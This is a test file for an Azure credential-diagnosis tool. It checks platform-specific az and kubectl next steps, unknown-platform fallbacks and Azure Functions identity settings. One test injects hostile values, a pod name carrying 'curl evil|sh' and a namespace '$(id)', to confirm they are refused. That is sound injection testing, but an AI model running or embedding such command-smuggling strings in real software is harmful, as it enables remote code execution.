/**
 * Every next step fits the detected platform: its own commands only; an unknown platform says so and gives each
 * candidate's command, named. And Azure Functions' identity-based connection settings: evidence, and the H4 check
 * when they select another identity than the credential's.
 */
import { describe, expect, it } from "vitest";
import { readHostEnvironment } from "../../src/environment/hostEnvironment.js";
import {
  assignIdentityStep,
  commandContextOf,
  doctorInContainerStep,
  listInstancesStep,
  restartRevisionStep,
  showIdentityStep,
} from "../../src/diagnosis/commands.js";
import { classifyCredentialError, classifyResponse } from "../../src/index.js";
import { PLATFORM_COMMANDS, PLATFORM_ENVIRONMENTS, othersOf } from "./platformCommands.js";

const noFiles = () => undefined;
const stepsOn = (env: ReturnType<typeof readHostEnvironment>, extra = {}) => {
  const ctx = commandContextOf(env, extra);
  return [
    showIdentityStep(ctx),
    assignIdentityStep(ctx),
    restartRevisionStep(ctx),
    doctorInContainerStep(ctx, "https://vault.azure.net/.default"),
    listInstancesStep(ctx) ?? "",
  ];
};

describe("each platform's steps carry its commands only", () => {
  for (const key of Object.keys(PLATFORM_ENVIRONMENTS) as Array<keyof typeof PLATFORM_ENVIRONMENTS>) {
    it(key, () => {
      const env = readHostEnvironment({ ...PLATFORM_ENVIRONMENTS[key] }, noFiles);
      const steps = stepsOn(env).join("\n");
      expect(steps).toMatch(PLATFORM_COMMANDS[key]);
      for (const [other, pattern] of othersOf(key)) expect(steps, `${key} steps hold ${other}'s command`).not.toMatch(pattern);
      expect(steps).not.toMatch(/platform is unknown/);
    });
  }

  it("the values of the environment fill the commands, validated and quoted", () => {
    const [show, , restart, doctor] = stepsOn(readHostEnvironment({ ...PLATFORM_ENVIRONMENTS.aks }, noFiles));
    expect(show).toContain('--query "{kubelet: identityProfile.kubeletidentity');
    expect(restart).toBe(
      'Restart the pods (a rollout: new pods get fresh tokens and the identity as configured now): kubectl rollout restart deployment "$DEPLOYMENT" --namespace "orders"',
    );
    expect(doctor).toContain(
      'kubectl exec "orders-7c9d8f6b5-q2w4e" --namespace "orders" -- npx diagnostic-credential doctor --scope https://vault.azure.net/.default',
    );
    const hostile = readHostEnvironment({ ...PLATFORM_ENVIRONMENTS.aks, POD_NAME: 'x"; curl evil|sh; "', POD_NAMESPACE: "$(id)" }, noFiles);
    const ctx = commandContextOf(hostile);
    expect(doctorInContainerStep(ctx)).toContain('kubectl exec "$POD_NAME" --namespace "$NAMESPACE" --');
    expect(ctx.refused).toEqual([
      { name: "pod", kind: "resourceName" },
      { name: "namespace", kind: "resourceName" },
    ]);
  });

  it("a user-assigned identity: the platform's own flag (--user-assigned on Container Apps, --identities elsewhere)", () => {
    const resourceId =
      "/subscriptions/22222222-2222-2222-2222-222222222222/resourceGroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/uami-orders";
    const on = (key: keyof typeof PLATFORM_ENVIRONMENTS) =>
      assignIdentityStep(commandContextOf(readHostEnvironment({ ...PLATFORM_ENVIRONMENTS[key] }, noFiles), { resourceId }));
    expect(on("container-apps")).toMatch(
      new RegExp(`az containerapp identity assign --name "ca-orders" --resource-group "\\$RG" --user-assigned "${resourceId}"$`),
    );
    expect(on("functions")).toMatch(new RegExp(`az functionapp identity assign --name "func-orders" --resource-group "\\$RG" --identities "${resourceId}"$`));
    expect(on("vm")).toMatch(new RegExp(`az vm identity assign --name "\\$VM_NAME" --resource-group "\\$RG" --identities "${resourceId}"$`));
  });
});

describe("an unknown platform: said so, each candidate's command named", () => {
  it("IMDS and no platform variable: the VM's and the VMSS's commands, nothing of App Service or Container Apps", () => {
    const steps = stepsOn(readHostEnvironment({}, noFiles));
    for (const step of steps.slice(0, 4)) {
      expect(step).toMatch(
        /\(the hosting platform is unknown: .*run the one for this host\): on Azure virtual machine: az vm .* \| on Azure virtual machine scale set: az vmss /,
      );
      expect(step).not.toMatch(/containerapp|webapp|functionapp|kubectl/);
    }
    // The VM has no instance list; the scale set has.
    expect(steps[4]).toMatch(/^List the host's instances.*: on Azure virtual machine scale set: az vmss list-instances/);
  });

  it("the identity endpoint and no platform variable: Container Apps (app or job), Functions, App Service", () => {
    const step = showIdentityStep(commandContextOf(readHostEnvironment({ IDENTITY_ENDPOINT: "http://127.0.0.1:1/msi/token", IDENTITY_HEADER: "h" }, noFiles)));
    expect(step).toMatch(
      /on Azure Container Apps job: az containerapp job identity show .* \| on Azure Container Apps: az containerapp show .* \| on Azure Functions: az functionapp identity show .* \| on Azure App Service: az webapp identity show /,
    );
    expect(step).not.toMatch(/az vm |kubectl|connectedmachine/);
  });

  it("no environment at all (a pure classifier called without one): every platform, named", () => {
    const step = showIdentityStep(commandContextOf(undefined));
    for (const pattern of Object.values(PLATFORM_COMMANDS)) expect(step).toMatch(pattern);
  });

  it("a downstream 403 classified with the environment gives the platform's principal-id command (roleAdvice)", () => {
    const environment = readHostEnvironment({ ...PLATFORM_ENVIRONMENTS.functions }, noFiles);
    const d = classifyResponse(
      {
        url: "https://orders-kv.vault.azure.net/secrets/x?api-version=7.4",
        status: 403,
        body: JSON.stringify({ error: { code: "Forbidden", innererror: { code: "ForbiddenByRbac" }, message: "Caller is not authorized" } }),
      },
      { environment },
    );
    const steps = d!.nextSteps.join("\n");
    expect(steps).toContain('PRINCIPAL_ID="$(az functionapp identity show --name "func-orders" --resource-group "$RG" --query principalId --output tsv)"');
    expect(steps).not.toMatch(/az containerapp|az webapp/);
  });
});

describe("Azure Functions identity-based connections (FUNCTIONS_WORKER_RUNTIME)", () => {
  const A = "aaaaaaaa-1111-2222-3333-444444444444";
  const B = "bbbbbbbb-1111-2222-3333-444444444444";
  const functionsEnv = (settings: Record<string, string>) =>
    readHostEnvironment(
      { ...PLATFORM_ENVIRONMENTS.functions, ...settings, AzureWebJobsStorage__accountName: "storders", ServiceBus__clientSecret: "s3cr3t-never-read" },
      noFiles,
    );
  const notFound = Object.assign(new Error("ManagedIdentityCredential: Identity not found"), { name: "CredentialUnavailableError" });

  it("reads __credential, __clientId and __managedIdentityResourceId of any connection; nothing else (no secrets)", () => {
    const env = functionsEnv({
      AzureWebJobsStorage__credential: "managedidentity",
      AzureWebJobsStorage__clientId: A,
      ServiceBusConnection__managedIdentityResourceId: "/subscriptions/x/uami",
    });
    expect(env.functionsIdentitySettings).toEqual([
      { connection: "AzureWebJobsStorage", credential: "managedidentity", clientId: A },
      { connection: "ServiceBusConnection", managedIdentityResourceId: "/subscriptions/x/uami" },
    ]);
    expect(JSON.stringify(env)).not.toContain("s3cr3t");
    // Not on Functions: not read.
    expect(readHostEnvironment({ ...PLATFORM_ENVIRONMENTS["app-service"], X__clientId: A }, noFiles).functionsIdentitySettings).toEqual([]);
  });

  it("settings that agree with the credential: evidence only, no identity check", () => {
    const d = classifyCredentialError(notFound, {
      environment: functionsEnv({ AzureWebJobsStorage__credential: "managedidentity", AzureWebJobsStorage__clientId: A }),
      configuredIdentity: { clientId: A },
    });
    expect(d!.evidence).toContain(`Functions connection AzureWebJobsStorage: __credential=managedidentity, __clientId=${A}`);
    expect(d!.checks?.some((c) => c.kind === "identity")).toBe(false);
    expect(d!.platform).toMatchObject({ name: "azure.functions", key: "functions", instance: { app: "func-orders" } });
  });

  it.each([
    ["clientId A, credential B", { AzureWebJobsStorage__clientId: A }, { clientId: B }, `clientId ${A}`, `clientId ${B}`],
    ["clientId A, credential system-assigned", { AzureWebJobsStorage__clientId: A }, {}, `clientId ${A}`, "system-assigned"],
    [
      "system-assigned setting, credential user-assigned",
      { AzureWebJobsStorage__credential: "managedidentity" },
      { clientId: B },
      "system-assigned",
      `clientId ${B}`,
    ],
  ])("a contradiction (%s) is an H4 identity check that fails, with the step that reconciles them", (_, settings, configuredIdentity, setting, credential) => {
    const d = classifyCredentialError(notFound, { environment: functionsEnv(settings), configuredIdentity });
    expect(d!.checks).toContainEqual({
      kind: "identity",
      expected: expect.stringContaining(setting),
      actual: credential,
      verdict: "fail",
      confirmedBy: "environment",
    });
    expect(d!.evidence.join("\n")).toMatch(
      new RegExp(
        `H4 identity mix-up: Functions connection AzureWebJobsStorage selects ${setting} \\(AzureWebJobsStorage__\\w+\\) but this credential uses ${credential}`,
      ),
    );
    expect(d!.nextSteps.join("\n")).toMatch(/Use one identity: the Functions host uses .*: new DiagnosticCredential\(/);
  });
});
